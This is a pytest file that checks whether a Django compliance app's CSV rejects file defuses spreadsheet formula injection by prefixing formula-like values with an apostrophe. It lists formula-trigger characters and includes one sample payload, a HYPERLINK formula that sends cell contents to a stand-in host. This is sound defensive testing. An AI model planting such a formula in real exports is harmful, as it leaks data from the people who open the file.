"""A rejects file opens in a spreadsheet as what it is, whatever somebody has sent in."""

import csv

import pytest
from django.core.management import call_command

from compliance.records.importing.rejects import RejectsFile
from compliance.records.importing.rows import Reject
from tests.records.conftest import MOVIES

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


def cells(path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))[1:]


@pytest.mark.parametrize("start", STARTS)
def test_what_begins_like_a_formula_gets_an_apostrophe(tmp_path, start):
    formula = f"{start}SUM(A1)"
    with RejectsFile(tmp_path / "r.csv") as rejects:
        rejects.add(Reject(formula, 7, formula, "value is empty"))
    assert cells(tmp_path / "r.csv") == [[f"'{formula}", "7", f"'{formula}", "value is empty"]]


@pytest.mark.parametrize("value", ["-1.5", "+2", "7", "a=1", "it's", ""])
def test_numbers_and_other_texts_stay_as_they_are(tmp_path, value):
    with RejectsFile(tmp_path / "r.csv") as rejects:
        rejects.add(Reject("ratings.csv", 2, value, "reason"))
    assert cells(tmp_path / "r.csv") == [["ratings.csv", "2", value, "reason"]]


@pytest.mark.django_db
def test_a_formula_in_an_imported_file_is_none_in_the_rejects(importer):
    formula = '=HYPERLINK("https://x.example/?"&A1)'
    quoted = formula.replace('"', '""')
    importer.movielens(MOVIES, f'userId,movieId,rating,timestamp\n7,1,"{quoted}",964982703\n')
    assert [row["value"] for row in importer.rejected()] == [f"'{formula}"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("command", "lines"),
    [
        ("import_contacts", "subject,email,language\nalice,=1+1,de\n"),
        ("set_erasure_classes", "subject,class\n=1+1,rare\n"),
    ],
)
def test_every_command_that_rejects_lines_is_as_careful(importer, command, lines):
    path = importer.write({"lines.csv": lines}) / "lines.csv"
    call_command(command, path, rejects=importer.rejects)
    assert [row["value"] for row in importer.rejected()] == ["'=1+1"]
